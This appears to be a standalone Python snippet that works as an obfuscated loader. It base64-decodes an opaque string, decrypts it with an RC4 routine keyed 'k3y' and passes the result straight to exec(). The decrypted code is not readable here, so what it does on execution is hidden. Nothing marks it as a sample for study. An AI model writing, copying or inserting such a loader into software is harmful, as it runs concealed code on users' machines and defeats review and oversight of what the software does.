import base64
def _ks(key, data):
    S = list(range(256)); j = 0
    for i in range(256):
        j = (j + S[i] + key[i % len(key)]) % 256
        S[i], S[j] = S[j], S[i]
    i = j = 0; out = bytearray()
    for b in data:
        i = (i + 1) % 256; j = (j + S[i]) % 256
        S[i], S[j] = S[j], S[i]
        out.append(b ^ S[(S[i] + S[j]) % 256])
    return bytes(out)
_B = "F/l1Vp1KRIoxLx0zKt4j2rDyR/jeFn8CQh7CbaRTQKrEFDMgqpZ+ettEnYBB0XpUjf8L/a6tWSzIK+W3oXr35FCeUCFJMtBNGD+AiBq6vVxnE/6d5JDXgi+y4l+IHyAS091VUEVW8GRBzOkfDXTuMGJ9VlM31xt5ui+npFcehn0M0l9AagkKciwV9RlZ1Fio2S+x1tFp26Mce3VbwyoYRAQhjzoGUEAWQ4nOmeaiTbzW"
exec(_ks(b"k3y", base64.b64decode(_B)))
